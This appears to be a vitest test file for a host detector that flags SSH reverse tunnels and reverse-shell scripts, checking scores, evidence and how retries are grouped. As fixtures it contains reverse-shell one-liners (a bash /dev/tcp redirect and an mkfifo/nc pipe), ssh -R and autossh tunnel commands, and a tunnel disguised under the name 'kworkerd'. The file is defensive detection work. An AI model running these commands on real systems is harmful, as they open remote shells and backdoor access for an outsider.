import { beforeEach, describe, expect, it } from "vitest"
import type { ProcessFacts } from "../../domain/identity.js"
import { intent } from "./intent.js"
import { startUs, secondUs } from "../../testing/time.js"
import { noSsh, sshClient, anUpdate } from "../../testing/connections.js"
import { aProcess } from "../../testing/processes.js"
import { DetectorRun } from "../../testing/trackers.js"

const tunnelArgv = ["ssh", "-N", "-R", "8080:localhost:80", "me@203.0.113.9"]

let host: DetectorRun
beforeEach(() => {
  host = new DetectorRun(intent())
})

const later = (seconds: number) => startUs + seconds * secondUs

describe("a process that was asked for a way in", () => {
  it("is claimed before it connects, and more strongly once it tries", () => {
    const [claim] = host.step(startUs, { processes: [aProcess(tunnelArgv)] })
    expect(claim).toMatchObject({
      class: "tunnel_intent",
      score: 0.3,
      cookie: "",
      process: "4711:1",
    })
    expect(claim?.evidence[0].text).toBe("The command line says: -R 8080:localhost:80")

    const tried = host.step(later(1), { connections: [anUpdate({ established: false, reason: "opened" })] })
    expect(tried).toHaveLength(1)
    expect(tried[0]).toMatchObject({ subject: claim?.subject, score: 0.55, cookie: "00000000000003e8" })
    expect(tried[0]?.evidence.map(({ kind }) => kind)).toEqual(["argv", "connection"])
    expect(tried[0]?.summary).toContain("tried to connect to 203.0.113.9:443")

    const [made] = host.step(later(2), { connections: [anUpdate({ observedUs: later(2) })] })
    expect(made?.summary).toContain("connected to 203.0.113.9:443")
  })

  it("is claimed once for the same facts sent again", () => {
    host.step(startUs, { processes: [aProcess(tunnelArgv)] })
    expect(host.step(later(1), { processes: [aProcess(tunnelArgv)] })).toEqual([])
  })

  it("is one with the fork that goes on in the background", () => {
    const processes = [aProcess(tunnelArgv), aProcess(tunnelArgv, { key: "4712:2", parent: "4711:1" })]
    const [first, ...none] = host.step(startUs, { processes })
    expect(none).toEqual([])
    expect(host.step(later(1), { exited: ["4711:1"] })).toEqual([])
    const [claim] = host.step(later(2), { connections: [anUpdate({ process: "4712:2" })] })
    expect(claim).toMatchObject({ subject: first?.subject, process: "4712:2", status: "active" })
    expect(claim?.summary).not.toContain("Tried")
  })

  it("is one with what autossh starts for it, with other words and a forwarding more", () => {
    const autossh = aProcess(["autossh", "-M", "20000", "-fNR8080:localhost:80", "host"])
    const argv = ["ssh", "-L", "20000:127.0.0.1:20000", "-R", "20000:127.0.0.1:20001", "-NR8080:localhost:80", "host"]
    expect(host.step(startUs, { processes: [autossh] })).toHaveLength(1)
    expect(host.step(later(1), { processes: [aProcess(argv, { key: "4712:2", parent: "4711:1" })] })).toEqual([])
  })

  it("is none in the probe that autossh sends itself, which has no other way in", () => {
    const autossh = aProcess(["autossh", "-M", "20000", "-N", "-L", "1:db:1", "host"])
    const probe = ["-L", "20000:127.0.0.1:20000", "-R", "20000:127.0.0.1:20001"]
    const child = (words: readonly string[]) => aProcess(["ssh", ...words, "-L", "1:db:1", "host"], { key: "4712:2", parent: "4711:1" }) // prettier-ignore
    expect(host.step(startUs, { processes: [autossh, child(probe)], connections: [anUpdate({ process: "4712:2" })] })).toEqual([]) // prettier-ignore
    expect(host.step(later(1), { processes: [child([...probe, "-R", "2:localhost:22"])] })).toMatchObject([{ score: 0.55 }]) // prettier-ignore
  })

  it("is another one in a child that asks for something else", () => {
    const other = aProcess(["ssh", "-R", "9090:localhost:90", "host"], { key: "4712:2", parent: "4711:1" })
    expect(host.step(startUs, { processes: [aProcess(tunnelArgv), other] })).toHaveLength(2)
  })

  it("owns the connection of its ProxyCommand", () => {
    host.step(startUs, {
      processes: [aProcess(tunnelArgv), aProcess(["nc", "203.0.113.9", "22"], { key: "4713:3", parent: "4711:1" })],
    })
    expect(host.step(later(1), { connections: [anUpdate({ process: "4713:3" })] })).toMatchObject([
      { process: "4711:1", score: 0.55 },
    ])
  })

  it("is over when it becomes another program, and still told by what it was", () => {
    host.step(startUs, { processes: [aProcess(tunnelArgv)] })
    const [ended] = host.step(later(1), { processes: [aProcess(["sleep", "9"])] })
    expect(ended).toMatchObject({ status: "ended", lastSeenUs: later(1) })
    expect(ended?.summary).toContain("ssh (pid 4711, uid 1000) on build-7 was asked for")
  })

  it("is found under another name once it speaks SSH as the client", () => {
    const facts = aProcess(["kworkerd", "-fNR8080:localhost:80", "host"])
    expect(host.step(startUs, { processes: [facts], connections: [anUpdate({ reason: "opened" })] })).toEqual([])
    const claims = host.step(later(1), {
      connections: [anUpdate({ ssh: sshClient, reason: "identified", observedUs: later(1) })],
    })
    expect(claims).toMatchObject([{ score: 0.55, confidence: 0.8, cookie: anUpdate().cookie }])
    expect(host.step(later(2), { processes: [facts] })).toEqual([])
  })

  it("shows the connection that proves to be SSH, not what came before it", () => {
    host.step(startUs, { processes: [aProcess(tunnelArgv)], connections: [anUpdate({ cookie: "01" })] })
    const claims = host.step(later(1), { connections: [anUpdate({ cookie: "02", ssh: sshClient })] })
    expect(claims.at(-1)?.cookie).toBe("02")
  })
})

describe("a script that was asked for a shell", () => {
  const bash = aProcess(["bash", "-c", "sleep 1; bash -i >& /dev/tcp/203.0.113.9/4444 0>&1; exec sleep 9"])
  const child = (argv: readonly string[]) => aProcess(argv, { key: "4713:3", parent: "4711:1" })
  const to = (address: string, port: number, process = "4711:1") =>
    anUpdate({ process, remote: { address, port }, cookie: `${address}${port}${process}` })
  const scores = (processes: readonly ProcessFacts[], update: ReturnType<typeof to>) => {
    host.step(startUs, { processes })
    return host.step(later(1), { connections: [update] }).map(({ score }) => score)
  }

  it.each([
    ["where its words say", to("203.0.113.9", 4444)],
    ["where its words say, from a shell that it started", to("203.0.113.9", 4444, "4713:3")],
  ])("has connected once something leads %s", (_, update) => {
    expect(scores([bash, child(["bash", "-i"])], update)).toEqual([0.55])
  })

  it.each([
    ["elsewhere", to("198.51.100.7", 4444)],
    ["to another port", to("203.0.113.9", 443)],
    ["to the same place, from another program", to("203.0.113.9", 4444, "4713:3")],
  ])("has not by a connection %s", (_, update) => {
    expect(scores([bash, child(["curl", "http://203.0.113.9:4444"])], update)).toEqual([])
  })

  it("has by the program that its words give the connection to, wherever it leads", () => {
    const script = aProcess(["sh", "-c", "mkfifo f; sh -i <f 2>&1 | nc $H $P >f"])
    expect(scores([script, child(["nc", "203.0.113.9", "4444"])], to("203.0.113.9", 4444, "4713:3"))).toEqual([0.55])
  })

  it("has not by what the script does beside it", () => {
    const script = aProcess(["sh", "-c", "mkfifo f; sh -i <f 2>&1 | nc $H $P >f"])
    expect(scores([script, child(["curl", "http://203.0.113.9:4444"])], to("203.0.113.9", 4444, "4713:3"))).toEqual([])
  })

  it("is told by what it was when it runs another program by the time that it is seen to connect", () => {
    host.step(startUs, { processes: [bash] })
    const [claim] = host.step(later(1), { connections: [to("203.0.113.9", 4444)], processes: [] })
    expect(claim?.summary).toContain("bash (pid 4711, uid 1000) on build-7 was asked for a shell")
    const [ended] = host.step(later(2), { processes: [aProcess(["sleep", "9"])] })
    expect(ended?.summary).toContain("bash (pid 4711, uid 1000) on build-7 was asked for a shell")
  })
})

it("takes back that a command line is not known once it is", () => {
  const words = ["ssh", "-o", "SendEnv=A"]
  const [note] = host.step(startUs, {
    processes: [aProcess(words, { argvTruncated: true })],
    connections: [anUpdate()],
  })
  expect(note).toMatchObject({ score: 0.3 })
  expect(note?.summary).toContain("has a command line of which the end was not read")
  const claims = host.step(later(1), { processes: [aProcess([...words, "-R", "1:a:2", "host"])] })
  expect(claims.map(({ status, score }) => [status, score])).toEqual([["active", 0.55], ["ended", 0.3]]) // prettier-ignore
})

it("shows what more is known of a command line", () => {
  const words = ["ssh", "-R", "1:a:2", "host"]
  host.step(startUs, { processes: [aProcess(words, { argvTruncated: true })], connections: [anUpdate()] })
  host.step(later(1), { processes: [aProcess([...words, "sleep 99"])] })
  const [ended] = host.step(later(2), { exited: ["4711:1"] })
  expect(ended?.facts?.argv.at(-1)).toBe("sleep 99")
})

it("counts a connection that was refused, of which the first record is the last", () => {
  const refused = anUpdate({ established: false, reason: "closed", bytesSent: 0, bytesReceived: 0 })
  const claims = host.step(startUs, { processes: [aProcess(tunnelArgv)], connections: [refused], exited: ["4711:1"] })
  expect(claims.at(-1)).toMatchObject({ score: 0.55, status: "ended" })
  expect(claims.at(-1)?.summary).toContain("it tried to connect to 203.0.113.9:443")
})

/** Processes with these words, each of a pid of its own, below one shell. */
const tries = (
  count: number,
  argv: (i: number) => readonly string[] = () => tunnelArgv,
  changes: Partial<ProcessFacts> = {},
) => Array.from({ length: count }, (_, i) => aProcess(argv(i), { key: `${5_000 + i}:${i}`, ...changes }))

const keys = (processes: readonly ProcessFacts[]) => processes.map(({ key }) => key)

describe("tries for the same", () => {
  /** Each runs for half a second and is refused; the next one begins `apart` seconds after it began. */
  const retry = (count: number, apart: number) =>
    tries(count).flatMap((facts, i) => {
      const refused = { cookie: `${i}`, process: facts.key, established: false, openedUs: later(i * apart) }
      const opened = anUpdate({ ...refused, reason: "opened", observedUs: later(i * apart) })
      const closed = anUpdate({ ...refused, reason: "closed", observedUs: later(i * apart + 0.5) })
      return [
        ...host.step(later(i * apart), { processes: [facts], connections: [opened] }),
        ...host.step(later(i * apart + 0.5), { connections: [closed], exited: [facts.key] }),
      ]
    })

  it("are one claim that counts, shows the latest, and is over once none came for some minutes", () => {
    const claims = retry(28, 1.4)
    expect(new Set(claims.map(({ subject }) => subject)).size).toBe(1)
    expect(claims.at(-1)).toMatchObject({ score: 0.55, process: "5027:27", status: "active" })
    expect(claims.at(-1)?.summary).toContain("tried to connect to 203.0.113.9:443. Tried 28 times in 37 seconds.")
    expect(claims.at(-1)?.evidence.at(-1)).toMatchObject({
      kind: "tries",
      facts: { tries: 28, running: 0, dialled: 28, connected: 0, seconds: 38 },
    })
    const lastUs = later(27 * 1.4 + 0.5)
    expect(host.step(lastUs + 359 * secondUs)).toEqual([])
    expect(host.step(lastUs + 360 * secondUs)).toMatchObject([{ status: "ended", lastSeenUs: lastUs }])
    expect(host.step(lastUs + 999 * secondUs)).toEqual([])
  })

  it("are one claim for a job of every five minutes", () => {
    const claims = retry(10, 300)
    expect(new Set(claims.map(({ subject }) => subject)).size).toBe(1)
    // The only try was over at once, until there was a second one.
    expect(claims.filter(({ status }) => status === "ended")).toHaveLength(1)
  })

  it("are told from the second one on", () => {
    expect(retry(2, 60).map(({ evidence }) => evidence.some(({ kind }) => kind === "tries"))).toEqual([false, false, false, true, true]) // prettier-ignore
  })

  it("count what autossh starts anew, and not what it starts first", () => {
    const below = { parent: "4711:1" }
    host.step(later(0), { processes: [aProcess(["autossh", ...tunnelArgv.slice(1)])] })
    expect(host.step(later(1), { processes: tries(1, undefined, below) })).toEqual([])
    host.step(later(2), { exited: ["5000:0"] })
    const [claim] = host.step(later(9), { processes: [aProcess(tunnelArgv, { key: "6000:6", ...below })] })
    expect(claim?.evidence.at(-1)?.facts).toMatchObject({ tries: 2, running: 1 })
  })

  it("are one by the thousand, however they overlap", () => {
    const all = tries(3_000)
    const claims = [...host.step(later(0), { processes: all }), ...host.step(later(22), { exited: keys(all) })]
    expect(new Set(claims.map(({ subject }) => subject)).size).toBe(1)
    expect(claims.length).toBeLessThan(5)
    expect(claims.at(-1)?.evidence.at(-1)?.facts).toMatchObject({ tries: 3_000, running: 0 })
  })

  it.each<[string, Partial<ProcessFacts>]>([
    ["another user", { uid: 1_001 }],
    ["another container", { containerId: "ab12" }],
    ["a copy of the program", { exe: "/tmp/ssh" }],
  ])("are apart from those of %s", (_, changes) => {
    const claims = [...host.step(later(0), { processes: tries(1) }), ...host.step(later(1), { processes: tries(1, undefined, { ...changes, key: "7:7" }) })] // prettier-ignore
    expect(new Set(claims.map(({ subject }) => subject)).size).toBe(2)
  })

  it("are apart by where they lead and by what started them", () => {
    const agent = aProcess(["/opt/agent"], { key: "9:9" })
    const cron = aProcess(["/usr/sbin/cron"], { key: "8:8" })
    const claims = host.step(later(0), {
      processes: [
        agent,
        cron,
        aProcess(tunnelArgv, { key: "10:1", parent: cron.key }),
        aProcess(tunnelArgv, { key: "11:1", parent: agent.key }),
        aProcess([...tunnelArgv.slice(0, -1), "me@198.51.100.7"], { key: "12:1", parent: cron.key }),
      ],
    })
    expect(new Set(claims.map(({ subject }) => subject)).size).toBe(3)
  })
})

describe("ever new requests of one user", () => {
  const many = (count: number, changes: Partial<ProcessFacts> = {}) =>
    tries(count, (i) => ["ssh", "-R", `${i}:10.0.0.1:22`, "h"], changes)

  it("are joined into one claim past a bound, with examples", () => {
    const all = many(3_000)
    const claims = [...host.step(later(0), { processes: all }), ...host.step(later(5), { exited: keys(all) })]
    expect(new Set(claims.map(({ subject }) => subject)).size).toBe(33)
    const joined = claims.findLast(({ subject }) => subject.startsWith("many"))
    expect(joined?.summary).toContain(
      "and others of the same user were asked 2968 times in 1 second for ever new ways in",
    )
    expect(joined?.evidence.filter(({ kind }) => kind === "argv")).toHaveLength(9)
    expect(joined?.evidence.at(-1)?.facts).toMatchObject({ tries: 2_968, running: 0 })
    expect(claims.filter(({ status }) => status === "ended")).toHaveLength(32)
    expect(host.step(later(400))).toMatchObject([{ subject: joined?.subject, status: "ended" }])
  })

  it("do not hide those of another user", () => {
    host.step(later(0), { processes: many(100) })
    const [claim] = host.step(later(1), { processes: [aProcess(tunnelArgv, { uid: 7 })] })
    expect(claim).toMatchObject({ process: "4711:1" })
    expect(claim?.subject).not.toMatch(/^many/)
  })

  it("show a connection to a place that was not shown, so that policy judges it", () => {
    const all = many(40)
    host.step(later(0), { processes: all })
    const to = (cookie: string, address: string, n: number) =>
      anUpdate({
        cookie,
        process: all[n]?.key,
        remote: { address, port: 22 },
        openedUs: later(1),
        observedUs: later(1),
      })
    host.step(later(1), { connections: [to("a", "203.0.113.9", 35)] })
    const [same] = host.step(later(2), { connections: [to("b", "203.0.113.9", 36)] })
    expect(same).toMatchObject({ cookie: "a", process: all[35]?.key })
    const [other] = host.step(later(3), { connections: [to("c", "198.51.100.7", 37)] })
    expect(other).toMatchObject({ cookie: "c", process: all[37]?.key })
  })

  it("have findings of their own again when they come slowly", () => {
    host.step(later(0), { processes: many(40) })
    const [claim] = host.step(later(10), { processes: [aProcess(["ssh", "-R", "1:b:2", "h2"])] })
    expect(claim?.subject).not.toMatch(/^many/)
  })
})

describe("nothing is added by", () => {
  beforeEach(() => {
    host.step(startUs, { processes: [aProcess(tunnelArgv)] })
  })

  it.each([
    ["a connection to the inside", anUpdate({ remote: { address: "10.9.9.9", port: 22 } })],
    ["an accepted connection", anUpdate({ initiator: "remote" })],
    ["a name that is looked up", anUpdate({ protocol: "udp", remote: { address: "9.9.9.9", port: 53 } })],
    ["a name that is looked up over TCP", anUpdate({ remote: { address: "9.9.9.9", port: 53 } })],
    ["SSH's own port over UDP", anUpdate({ protocol: "udp", remote: { address: "9.9.9.9", port: 22 } })],
    ["another process", anUpdate({ process: "99:9" })],
    ["more bytes", anUpdate({ process: "99:9", bytesSent: 9_999_999 })],
  ])("%s", (_, update) => {
    expect(host.step(later(1), { connections: [update] })).toEqual([])
  })
})

describe("quiet about", () => {
  it.each([
    [["ssh", "-L", "8080:localhost:80", "host"]],
    [["ssh", "-D", "1080", "host"]],
    [["ssh", "host"]],
    [["/usr/sbin/sshd", "-D", "-R"]],
    [["ssh", "host", "ls", "-R"]],
  ])("%j", (argv) => {
    const claims = host.step(startUs, {
      processes: [aProcess(argv)],
      connections: [anUpdate({ ssh: sshClient }), anUpdate({ cookie: "02", ssh: noSsh })],
    })
    expect(claims).toEqual([])
  })
})
